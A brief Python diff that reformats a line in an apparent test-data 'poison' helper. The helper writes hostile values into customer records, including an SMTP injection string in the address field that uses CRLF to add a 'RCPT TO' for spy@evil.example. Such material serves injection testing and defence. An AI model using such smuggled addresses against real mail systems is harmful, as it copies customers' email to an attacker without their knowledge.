@@ -57,7 +57,9 @@ def poison(session, shop):
             session.execute(mine.values(**{"first_name": "", "last_name": "", field: EVIL}))
         elif field == "address":
             evil = "kunde3@kunde.example>\r\nRCPT TO:<spy@evil.example"
-            session.execute(update(ContactPoint).where(ContactPoint.customer_id == customer).values(address=evil))
+            session.execute(
+                update(ContactPoint).where(ContactPoint.customer_id == customer).values(address=evil)
+            )
 
 
 def played(shop, office, work):
